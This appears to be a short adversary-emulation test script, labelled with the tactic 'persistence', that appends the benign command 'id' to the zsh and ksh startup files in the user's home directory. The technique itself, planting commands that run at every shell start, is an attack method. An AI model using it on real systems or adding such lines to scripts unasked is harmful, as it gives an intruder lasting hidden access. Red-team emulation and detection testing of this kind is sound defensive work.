# tactic: persistence
# plant a command in the rc files of zsh and ksh
echo "id" >> $HOME/.zshenv
echo "id" >> $HOME/.kshrc
